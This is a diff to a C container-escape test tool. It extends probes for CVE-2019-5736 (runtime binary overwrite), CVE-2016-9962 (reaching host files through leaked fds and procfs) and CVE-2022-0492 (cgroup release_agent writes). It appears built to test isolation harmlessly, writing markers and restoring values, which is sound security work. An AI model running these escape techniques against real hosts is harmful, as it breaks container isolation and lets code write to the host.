@@ -27,6 +27,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <limits.h>
+#include <linux/magic.h>
 #include <linux/reboot.h>
 #include <netinet/in.h>
 #include <sched.h>
@@ -40,6 +41,7 @@
 #include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/statfs.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/types.h>
@@ -642,6 +644,31 @@ static int is_pid_name(const char *s)
 	return 1;
 }
 
+/* What the attacker holds (EXEFD, an O_PATH fd of /proc/PID/exe): `exe=` its name,
+ * `nlink=` its link count, and `seals=` its memfd seals in hex (or errno=NAME where it is
+ * no memfd). A sealed copy of the runtime reads /memfd:..., nlink=0, seals with
+ * F_SEAL_WRITE (0x8). */
+static void describe_exe(int exefd)
+{
+	char path[64], target[PATH_MAX];
+	struct stat st;
+	snprintf(path, sizeof path, "/proc/self/fd/%d", exefd);
+	ssize_t n = readlink(path, target, sizeof target - 1);
+	target[n > 0 ? n : 0] = '\0';
+	printf("exe=%s\n", target);
+	if (fstat(exefd, &st) == 0)
+		printf("nlink=%lu\n", (unsigned long)st.st_nlink);
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	int seals = fd < 0 ? -1 : fcntl(fd, F_GET_SEALS);
+	if (seals < 0)
+		printf("seals=errno=%s\n", errno_name(errno));
+	else
+		printf("seals=0x%x\n", seals);
+	if (fd >= 0)
+		close(fd);
+	fflush(stdout);
+}
+
 /*
  * `exe-attack FIFO SECONDS` (CVE-2019-5736): makes FIFO, then watches /proc for a
  * process whose executable is not on the container's root filesystem (the runtime's
@@ -649,7 +676,7 @@ static int is_pid_name(const char *s)
  * FIFO, e.g. /etc/ld.so.preload), keeps /proc/PID/exe open with O_PATH, releases the
  * FIFO, and once the process is gone reopens the binary for writing and writes a
  * marker at offset 0.
- * Prints found=0|1, then write=ok or write=errno=NAME.
+ * Prints found=0|1, what it found (describe_exe), then write=ok or write=errno=NAME.
  */
 static int cmd_exe_attack(const char *fifo, const char *secs)
 {
@@ -703,6 +730,7 @@ static int cmd_exe_attack(const char *fifo, const char *secs)
 	fflush(stdout);
 	if (exefd < 0)
 		return 0;
+	describe_exe(exefd);
 	/* Let the blocked process go on and exit: its binary is busy until then. A reader
 	 * blocked opening FIFO (the loader reading /etc/ld.so.preload) is released by a
 	 * writer that goes away at once, a blocked writer (a log file) by a reader. This is
@@ -742,6 +770,115 @@ static int cmd_exe_attack(const char *fifo, const char *secs)
 	return 0;
 }
 
+/* The distinct `fd=N TARGET kind=KIND` findings of proc-spy, with how often each was seen. */
+static struct {
+	char what[PATH_MAX + 16];
+	const char *kind;
+	int count;
+} fd_notes[64];
+static int nfd_notes;
+
+static void note_fd(const char *fd, const char *target, const char *kind)
+{
+	char what[sizeof fd_notes[0].what];
+	snprintf(what, sizeof what, "%s %s", fd, target);
+	for (int i = 0; i < nfd_notes; i++)
+		if (strcmp(fd_notes[i].what, what) == 0 && fd_notes[i].kind == kind) {
+			fd_notes[i].count++;
+			return;
+		}
+	if (nfd_notes == 64)
+		return;
+	snprintf(fd_notes[nfd_notes].what, sizeof what, "%s", what);
+	fd_notes[nfd_notes].kind = kind;
+	fd_notes[nfd_notes++].count = 1;
+}
+
+static int same_file(int fd, const struct stat *st)
+{
+	struct stat fst;
+	return fstat(fd, &fst) == 0 && fst.st_dev == st->st_dev && fst.st_ino == st->st_ino;
+}
+
+/* Appends to FILE beneath DIRFD; 1 when that worked. */
+static int append_at(int dirfd, const char *file)
+{
+	int w = openat(dirfd, file, O_WRONLY | O_APPEND | O_CLOEXEC);
+	if (w < 0)
+		return 0;
+	int ok = write(w, "escaped\n", 8) == 8;
+	close(w);
+	return ok;
+}
+
+/*
+ * Classifies fd NAME of a process (FDDIR is its /proc/PID/fd) whose link reads TARGET, as
+ * seen from the container whose root is ROOT: "container-root" (our own root),
+ * "container-proc" (a procfs whose pid 1 has our root: the container's pid namespace),
+ * "container-proc-file" (a file of our /proc), "host-proc" (any other procfs: its pid 1's
+ * root is outside), "host-dir" or "host-file".
+ * Through a host one, it tries to append to HOSTFILE (an absolute host path): beneath the
+ * directory, or beneath the procfs's 1/root. Returns 1 if HOSTFILE was written.
+ */
+static int spy_fd(int fddir, const char *name, const char *target, const struct stat *root,
+		  const char *hostfile, const char **kind)
+{
+	struct statfs sfs;
+	struct stat st;
+	char rel[PATH_MAX + 16];
+	int escaped = 0, fd = openat(fddir, name, O_PATH | O_CLOEXEC);
+	*kind = "gone";
+	if (fd < 0 || fstat(fd, &st) < 0 || fstatfs(fd, &sfs) < 0) {
+		if (fd >= 0)
+			close(fd);
+		return 0;
+	}
+	if (sfs.f_type == PROC_SUPER_MAGIC && S_ISDIR(st.st_mode)) {
+		int init_root = openat(fd, "1/root", O_PATH | O_DIRECTORY | O_CLOEXEC);
+		if (init_root >= 0 && same_file(init_root, root)) {
+			*kind = "container-proc";
+		} else {
+			/* Any process of that procfs whose root is the host's will do (pid 1
+			 * may be out of reach): the runtime's own parent, a shell... */
+			*kind = "host-proc";
+			int dfd = openat(fd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+			DIR *d = dfd < 0 ? NULL : fdopendir(dfd);
+			struct dirent *de;
+			while (d && !escaped && (de = readdir(d)))
+				if (is_pid_name(de->d_name)) {
+					snprintf(rel, sizeof rel, "%s/root%s", de->d_name, hostfile);
+					escaped = append_at(fd, rel);
+				}
+			if (d)
+				closedir(d);
+			else if (dfd >= 0)
+				close(dfd);
+		}
+		if (init_root >= 0)
+			close(init_root);
+	} else if (S_ISDIR(st.st_mode)) {
+		size_t tl = strlen(target);
+		if (same_file(fd, root)) {
+			*kind = "container-root";
+		} else {
+			*kind = "host-dir";
+			/* HOSTFILE below the directory, as the host names it. */
+			if (strcmp(target, "/") == 0)
+				escaped = append_at(fd, hostfile + 1);
+			else if (strncmp(hostfile, target, tl) == 0 && hostfile[tl] == '/')
+				escaped = append_at(fd, hostfile + tl + 1);
+		}
+	} else {
+		/* A file of the container's own /proc (e.g. a sysctl libcap reads). */
+		struct stat proc;
+		*kind = sfs.f_type == PROC_SUPER_MAGIC && stat("/proc", &proc) == 0 && proc.st_dev == st.st_dev
+				? "container-proc-file"
+				: "host-file";
+	}
+	close(fd);
+	return escaped;
+}
+
 /*
  * `proc-spy NAME SECONDS HOSTFILE` (CVE-2016-9962): for SECONDS, watches /proc for
  * processes whose command line contains NAME (the runtime's process joining the
@@ -749,9 +886,11 @@ static int cmd_exe_attack(const char *fifo, const char *secs)
  * when that works and the executable is still the runtime's (not on our root
  * filesystem), reads its fd links and tries to append to HOSTFILE through
  * /proc/PID/root and /proc/PID/cwd.
+ * Every fd >= 3 of a caught process whose target is a path is classified by spy_fd()
+ * (and used to reach HOSTFILE where it leads outside the container).
  * Prints seen= (runtime processes seen), protected= (exe refused), caught= (exe of the
- * runtime opened), escaped= (HOSTFILE written), and one `fd=N TARGET` line per fd >= 3
- * of a caught process whose target is a path.
+ * runtime opened), escaped= (HOSTFILE written), and one `fd=N TARGET kind=KIND count=C`
+ * line per distinct fd, target and kind seen in caught processes.
  */
 static int cmd_proc_spy(const char *name, const char *secs, const char *hostfile)
 {
@@ -804,8 +943,11 @@ static int cmd_proc_spy(const char *name, const char *secs, const char *hostfile
 				if (n <= 0 || !is_pid_name(fe->d_name) || atoi(fe->d_name) < 3)
 					continue;
 				target[n] = '\0';
-				if (target[0] == '/')
-					printf("fd=%s %s\n", fe->d_name, target);
+				if (target[0] != '/')
+					continue;
+				const char *kind = "";
+				escaped += spy_fd(dirfd(fds), fe->d_name, target, &root, hostfile, &kind);
+				note_fd(fe->d_name, target, kind);
 			}
 			if (fds)
 				closedir(fds);
@@ -822,6 +964,8 @@ static int cmd_proc_spy(const char *name, const char *secs, const char *hostfile
 		}
 		closedir(d);
 	}
+	for (int i = 0; i < nfd_notes; i++)
+		printf("fd=%s kind=%s count=%d\n", fd_notes[i].what, fd_notes[i].kind, fd_notes[i].count);
 	printf("seen=%d\nprotected=%d\ncaught=%d\nescaped=%d\n", seen, protected, caught, escaped);
 	return 0;
 }
@@ -881,7 +1025,8 @@ static int cmd_abstract_unix(const char *substr, const char *secs)
 }
 
 /* Writes a cgroup v1 release_agent back with the value it already has, so that a
- * write that the kernel should refuse changes nothing on the host if it is allowed. */
+ * write that the kernel should refuse changes nothing on the host if it is allowed.
+ * Returns "ok" or "errno=NAME". */
 static const char *rewrite_release_agent(const char *path)
 {
 	char cur[PATH_MAX + 2] = "";
@@ -894,13 +1039,17 @@ static const char *rewrite_release_agent(const char *path)
 	}
 	if (cur[0] == '\0' || cur[strlen(cur) - 1] != '\n')
 		strcat(cur, "\n");
+	static char result[64];
 	fd = open(path, O_WRONLY | O_CLOEXEC);
-	if (fd < 0)
-		return errno_name(errno);
+	if (fd < 0) {
+		snprintf(result, sizeof result, "errno=%s", errno_name(errno));
+		return result;
+	}
 	n = write(fd, cur, strlen(cur));
 	int e = errno;
 	close(fd);
-	return n < 0 ? errno_name(e) : "ok";
+	snprintf(result, sizeof result, "errno=%s", errno_name(e));
+	return n < 0 ? result : "ok";
 }
 
 static int write_proc_file(const char *path, const char *text)
@@ -913,12 +1062,30 @@ static int write_proc_file(const char *path, const char *text)
 	return n < 0 ? -1 : 0;
 }
 
+/* Whether CONTROLLER is bound to a cgroup v1 hierarchy (/proc/cgroups: hierarchy != 0). */
+static int v1_hierarchy(const char *controller)
+{
+	char name[64];
+	int hierarchy, found = 0;
+	FILE *f = fopen("/proc/cgroups", "re");
+	if (!f)
+		return 0;
+	fscanf(f, "%*[^\n]\n"); /* the header */
+	while (fscanf(f, "%63s %d %*d %*d\n", name, &hierarchy) == 2)
+		if (strcmp(name, controller) == 0)
+			found = hierarchy != 0;
+	fclose(f);
+	return found;
+}
+
 /*
  * `release-agent [userns]` (CVE-2022-0492): tries to write every release_agent under
  * /sys/fs/cgroup, then to mount cgroup v1 hierarchies on a fresh /tmp directory and
  * write their release_agent. With `userns`, first unshares user, mount and cgroup
  * namespaces as `unshare -UrmC` does. Every write puts back the value already there.
- * Prints `KEY=ok` or `KEY=errno=NAME` lines; release_agent writes are `agent-...=`.
+ * Controllers that no v1 hierarchy holds are not mounted (`mount-X=not-v1`).
+ * Prints `KEY=ok` or `KEY=errno=NAME` lines; release_agent writes are `agent-...=` (one
+ * per entry of /sys/fs/cgroup, whether or not it has a release_agent).
  */
 static int cmd_release_agent(int userns)
 {
@@ -945,8 +1112,7 @@ static int cmd_release_agent(int userns)
 		if (de->d_name[0] == '.')
 			continue;
 		snprintf(path, sizeof path, "/sys/fs/cgroup/%s/release_agent", de->d_name);
-		if (access(path, F_OK) == 0)
-			printf("agent-%s=%s\n", de->d_name, rewrite_release_agent(path));
+		printf("agent-%s=%s\n", de->d_name, rewrite_release_agent(path));
 	}
 	if (d)
 		closedir(d);
@@ -956,6 +1122,12 @@ static int cmd_release_agent(int userns)
 	mkdir(dir, 0700);
 	for (size_t i = 0; i < sizeof ctls / sizeof ctls[0]; i++) {
 		const char *key = strncmp(ctls[i], "none,name=", 10) == 0 ? "named" : ctls[i];
+		/* Mounting a controller that no v1 hierarchy holds would take it from cgroup v2
+		 * for the whole machine, should the mount be allowed. */
+		if (strcmp(key, "named") != 0 && !v1_hierarchy(ctls[i])) {
+			printf("mount-%s=not-v1\n", key);
+			continue;
+		}
 		if (mount("cgroup", dir, "cgroup", MS_NOSUID | MS_NODEV | MS_NOEXEC, ctls[i]) < 0) {
 			printf("mount-%s=errno=%s\n", key, errno_name(errno));
 			continue;
